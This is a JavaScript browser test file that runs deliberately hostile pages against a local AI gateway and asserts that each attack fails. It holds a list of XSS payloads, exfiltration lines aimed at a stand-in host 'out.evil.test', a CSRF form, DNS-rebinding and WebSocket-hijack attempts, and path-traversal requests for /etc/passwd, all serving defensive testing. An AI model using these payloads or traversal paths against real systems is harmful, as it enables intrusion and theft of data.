// SPDX-FileCopyrightText: 2026 The Clawdbot authors
// SPDX-License-Identifier: MIT

// Pages that mean harm, in Chromium, against a real gateway. None of it may work.

import assert from 'node:assert/strict'
import { request } from 'node:http'
import { once } from 'node:events'
import { after, before, test } from 'node:test'
import { freshPage, launch } from './support/browser.mjs'
import { Gateway } from './support/gateway.mjs'
import { closeServer, site } from './support/servers.mjs'

let browser
let gateway
let evil // A web site that the owner of the gateway happens to visit.

const blank = '<!doctype html><title>harmless</title>'

before(async () => {
    // The names of the attacker lead to this machine, as after DNS rebinding.
    browser = await launch(['--host-resolver-rules=MAP *.evil.test 127.0.0.1'])
    evil = await site({ '/': blank })
    // Without a secret: Origin and Host alone stand between a page and the gateway.
    gateway = await Gateway.start({ gateway: { auth: undefined } })
})
after(async () => {
    await browser?.close()
    closeServer(evil)
    await gateway?.dispose()
})

async function accepted() {
    const { text } = await gateway.command('gateway', 'call', 'health', '--json')
    return JSON.parse(text).ledger.accepted
}

//! What becomes of a WebSocket to that address, opened by the page.
function openSocket(page, url) {
    return page.evaluate((address) => new Promise((resolve) => {
        const socket = new WebSocket(address)
        socket.onopen = () => resolve('open')
        socket.onmessage = (event) => resolve(event.data)
        socket.onclose = (event) => resolve(`closed ${event.code}`)
    }), url)
}

test('the owner gets in without a secret, to show that only the attacks fail', async () => {
    const page = await freshPage(browser)
    await page.goto(gateway.url)
    await page.getByRole('heading', { name: 'Overview' }).waitFor()
    await page.context().close()
})

for (const host of ['127.0.0.1', 'localhost', 'www.evil.test']) {
    test(`a page of another origin opens no WebSocket: ${host}`, async () => {
        const page = await freshPage(browser)
        await page.goto(`http://${host}:${evil.port}/`)
        assert.equal(await openSocket(page, `ws://127.0.0.1:${gateway.port}/`), 'closed 1006')
        assert.equal(await openSocket(page, `ws://localhost:${gateway.port}/`), 'closed 1006')
        await page.context().close()
    })
}

test('a page without an origin opens none either', async () => {
    const page = await freshPage(browser)
    await page.goto(`http://127.0.0.1:${evil.port}/`)
    const outcome = await page.evaluate((address) => new Promise((resolve) => {
        addEventListener('message', (event) => resolve(event.data))
        const frame = document.createElement('iframe')
        frame.sandbox = 'allow-scripts'
        frame.srcdoc = `<script>const s = new WebSocket('${address}')
            s.onopen = () => parent.postMessage('open', '*'); s.onclose = (e) => parent.postMessage('closed ' + e.code, '*')<\/script>`
        document.body.append(frame)
    }), `ws://127.0.0.1:${gateway.port}/`)
    assert.equal(outcome, 'closed 1006')
    await page.context().close()
})

test('a name that was made to point here shows nothing and opens nothing', async () => {
    const page = await freshPage(browser)
    const answer = await page.goto(`http://rebound.evil.test:${gateway.port}/`)
    assert.equal(answer.status(), 403)
    assert.ok(!(await page.content()).includes('<script'))
    assert.equal(await openSocket(page, `ws://rebound.evil.test:${gateway.port}/`), 'closed 1006')
    await page.context().close()
})

test('a page of another origin reads nothing and starts nothing', async () => {
    const before = await accepted()
    const page = await freshPage(browser)
    await page.goto(`http://127.0.0.1:${evil.port}/`)
    const outcomes = await page.evaluate(async (base) => {
        const paths = ['/', '/healthz', '/readyz', '/hooks/wake', '/hooks/agent', '/tools/invoke', '/v1/chat/completions', '/v1/responses']
        const read = await Promise.all(paths.map((path) => fetch(base + path).then(() => path, () => 'refused')))
        const body = JSON.stringify({ message: 'hello', text: 'hello', tool: 'sessions_list', messages: [{ role: 'user', content: 'hello' }] })
        await Promise.all(paths.map((path) => fetch(base + path, { method: 'POST', mode: 'no-cors', body }).catch(() => {})))
        const preflight = await fetch(base + '/tools/invoke', { method: 'POST', headers: { Authorization: 'Bearer x' }, body }).then(() => 'sent', () => 'refused')
        return [...read, preflight]
    }, gateway.url)
    assert.deepEqual([...new Set(outcomes)], ['refused'])
    const form = page.waitForNavigation()
    await page.evaluate((base) => {
        const element = Object.assign(document.createElement('form'), { method: 'POST', action: base + '/tools/invoke', enctype: 'text/plain' })
        element.append(Object.assign(document.createElement('input'), { name: '{"tool":"sessions_list","x":"', value: '"}' }))
        document.body.append(element)
        element.submit()
    }, gateway.url)
    assert.ok((await form).status() >= 400)
    assert.equal(await accepted(), before)
    await page.context().close()
})

test('a page of another origin can neither frame the control page nor run its scripts', async () => {
    const page = await freshPage(browser)
    await page.goto(`http://127.0.0.1:${evil.port}/`)
    await page.evaluate((base) => new Promise((resolve) => {
        const frame = Object.assign(document.createElement('iframe'), { src: base })
        frame.onload = frame.onerror = resolve
        document.body.append(frame)
    }), gateway.url)
    const frame = page.frames().find((one) => one !== page.mainFrame())
    assert.equal(await frame.locator('#app').count(), 0)
    const html = await (await fetch(gateway.url)).text()
    const script = /src="([^"]+\.js)"/.exec(html)[1]
    const outcome = await page.evaluate((src) => new Promise((resolve) => {
        const element = Object.assign(document.createElement('script'), { src, type: 'text/javascript' })
        element.onload = () => resolve('loaded')
        element.onerror = () => resolve('refused')
        document.body.append(element)
    }), gateway.url + script)
    assert.equal(outcome, 'refused')
    await page.context().close()
})

test('a window that opened the control page has no hold on it', async () => {
    const page = await freshPage(browser)
    await page.goto(`http://127.0.0.1:${evil.port}/`)
    const popup = page.waitForEvent('popup')
    await page.evaluate((base) => void (globalThis.opened = open(base)), gateway.url)
    const opened = await popup
    await opened.getByRole('heading', { name: 'Overview' }).waitFor()
    assert.equal(await opened.evaluate(() => opener), null)
    assert.equal(await page.evaluate(() => globalThis.opened.closed), true)
    await page.context().close()
})

const harm = "globalThis.harmed=1"
const payloads = [
    `<img src=x onerror="${harm}">`,
    `<script>${harm}</script>`,
    `<svg onload="${harm}"><animate onbegin="${harm}" attributeName=x dur=1s></svg>`,
    `<iframe srcdoc="<script>parent.harmed=1</script>"></iframe>`,
    `<a href="javascript:${harm}" id=trap>click</a> [link](javascript:${harm}) [data](data:text/html,<script>${harm}</script>)`,
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${harm}&gt;">`,
    `<form action="http://out.evil.test/"><input name=token><button id=trap>Sign in</button></form>`,
    `<style>@import url(http://out.evil.test/x.css); * { background: url(http://out.evil.test/y) }</style>`,
    '![pixel](http://out.evil.test/pixel.png) <img src="http://out.evil.test/pixel2.png"> <link rel=stylesheet href="http://out.evil.test/a.css">',
]

async function assertUnharmed(page, outgoing) {
    for (const link of await page.locator('article a, article button#trap').all()) {
        const target = (await link.getAttribute('href')) ?? ''
        assert.ok(!/^\s*(javascript|data|vbscript):/i.test(target), target)
    }
    assert.equal(await page.evaluate(() => globalThis.harmed), undefined)
    assert.deepEqual(outgoing, [])
}

function watchOutgoing(page) {
    const outgoing = []
    page.on('request', (one) => one.url().includes('evil.test') && outgoing.push(one.url()))
    return outgoing
}

test('what is said in a chat runs nothing and fetches nothing', async () => {
    const page = await freshPage(browser)
    const outgoing = watchOutgoing(page)
    await page.goto(gateway.url + '/chat?session=harm')
    const input = page.getByLabel('Message', { exact: true })
    for (const [index, payload] of payloads.entries()) {
        await input.fill(`echo:slow 5 number-${index} ${payload}`)
        await input.press('Enter')
        await page.getByRole('article', { name: 'Assistant' }).nth(index).filter({ hasText: `number-${index}` }).waitFor()
        await page.locator('.live').waitFor({ state: 'detached' })
    }
    // Code is coloured by another way into the page.
    const code = `\`\`\`html\n<img src=x onerror="${harm}">\n\`\`\`\ncoloured`
    const params = JSON.stringify({ sessionKey: 'agent:main:harm', message: code })
    assert.equal((await gateway.command('gateway', 'call', 'chat.inject', '--params', params)).code, 0)
    await page.locator('.markdown .hljs-tag, .markdown .hljs-name').first().waitFor()
    await assertUnharmed(page, outgoing)
    // The same from the transcript, and in the previews of the lists.
    await page.reload()
    await page.getByRole('article', { name: 'Assistant' }).nth(payloads.length - 1).waitFor()
    await page.goto(gateway.url + '/sessions')
    await page.getByRole('button', { name: /harm/ }).waitFor()
    await assertUnharmed(page, outgoing)
    await page.context().close()
})

test('names of conversations run nothing', async () => {
    const name = '<img src=x onerror=harmed=1>'
    const params = JSON.stringify({ key: 'agent:main:named', label: name })
    assert.equal((await gateway.command('gateway', 'call', 'sessions.patch', '--params', params)).code, 0)
    const page = await freshPage(browser)
    const outgoing = watchOutgoing(page)
    for (const place of ['/sessions', '/chat?session=agent:main:named']) {
        await page.goto(gateway.url + place)
        await page.getByText(name).first().waitFor()
    }
    await page.goto(`${gateway.url}/chat?session=${encodeURIComponent(name)}`)
    await page.getByRole('heading', { name }).waitFor()
    await assertUnharmed(page, outgoing)
    await page.context().close()
})

test('lines of the log run nothing', async () => {
    const page = await freshPage(browser)
    const outgoing = watchOutgoing(page)
    await page.goto(gateway.url + '/logs')
    const headers = { Origin: '<img src=x onerror=harmed=1>', Connection: 'Upgrade', Upgrade: 'websocket', 'Sec-WebSocket-Version': '13', 'Sec-WebSocket-Key': btoa('0123456789abcdef') }
    const upgrade = request({ port: gateway.port, host: '127.0.0.1', headers })
    upgrade.end()
    await once(upgrade, 'response')
    await page.locator('.log-row').filter({ hasText: 'onerror=harmed' }).first().click()
    await page.locator('.log-detail').filter({ hasText: 'onerror=harmed' }).waitFor()
    await assertUnharmed(page, outgoing)
    await page.context().close()
})

test('nothing but the files of the page is served', async () => {
    for (const path of ['/assets/../../../../etc/passwd', '/assets/..%2f..%2fetc%2fpasswd', '/assets/%2e%2e/%2e%2e/etc/passwd', '//etc/passwd', '/..%5c..%5cetc%5cpasswd']) {
        const got = request({ port: gateway.port, host: '127.0.0.1', path })
        got.end()
        const [response] = await once(got, 'response')
        let body = ''
        for await (const part of response) body += part
        assert.ok(!body.includes('root:'), path)
        assert.ok(response.statusCode === 404 || body.startsWith('<!doctype html>'), `${path}: ${response.statusCode}`)
    }
})
